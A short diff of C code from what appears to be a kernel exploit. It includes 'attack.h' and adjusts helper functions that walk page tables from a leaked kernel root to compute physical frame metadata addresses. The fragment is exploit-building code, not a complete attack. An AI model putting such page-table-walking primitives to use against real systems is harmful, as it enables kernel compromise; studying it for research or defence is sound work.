@@ -2,7 +2,7 @@
  */
 #include "attack.h"
 
-enum { LEVELS = 4, ENTRIES = 512, FRAME_BYTES = 16, FRAME_LINKS = 8 };
+enum { LEVELS = 4, ENTRIES = 512, FRAME_BYTES = 8 };
 #define PRESENT_USER 5ul
 #define LARGE 0x80ul
 
@@ -46,10 +46,10 @@ uint64_t attack_first_page(const struct bw_leak *leak, uint64_t root)
 	return first_page_below(leak, root, LEVELS);
 }
 
-uint64_t attack_frame_links(const struct bw_leak *leak, uint64_t address)
+uint64_t attack_frame(const struct bw_leak *leak, uint64_t address)
 {
 	uint64_t place;
 	uint64_t entry = attack_entry(leak, leak->kernel_root, address, &place);
 
-	return leak->frames + attack_entry_frame(entry) * FRAME_BYTES + FRAME_LINKS;
+	return leak->frames + attack_entry_frame(entry) * FRAME_BYTES;
 }
